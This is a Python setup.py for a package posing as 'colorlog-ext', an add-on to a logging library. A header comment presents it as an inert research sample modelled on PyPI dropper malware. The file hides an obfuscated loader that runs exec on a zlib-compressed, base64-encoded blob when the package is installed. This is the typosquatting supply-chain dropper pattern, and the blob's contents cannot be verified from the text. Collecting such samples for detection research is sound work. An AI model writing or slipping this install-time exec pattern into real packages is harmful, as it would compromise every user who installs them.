# Inert corpus sample modelled on PyPI setup.py droppers (e.g. the 2022-2023 "colourama"/W4SP
# families) that hide a downloader in exec(zlib.decompress(base64.b64decode(...))). Hosts are unreachable.
import base64
import zlib

from setuptools import find_packages, setup

_CACHE = "eJxVT9FuwyAMfOcrrDyBlpC9VJMq7WNocAsTYAZO0/39nKjVND9Y9sl3vou5UmOgPkJnxyMw5nqNCUdYW0rxYht+r9hZeWnwKZe2Og72i2LRr2N7Q95nH5s2Iwx2oUQt0W0KmCq2wSjv2An9v6iVlSoWPQTm2s/zvPjyR8YHW3y4XOVDLHeXop9fgiLhvDZqixzg0NgNyu/tMhhwHWjlswIpGezWIqPePRglCZaQyT8J7/RxOh1o/+kS4oDhDQaYJu8wUxH3v3uZZOU="

exec(zlib.decompress(base64.b64decode(_CACHE)))

setup(
    name="colorlog-ext",
    version="6.8.3",
    description="Extra formatters for colorlog",
    package_dir={"": "src"},
    packages=find_packages("src"),
    python_requires=">=3.8",
)
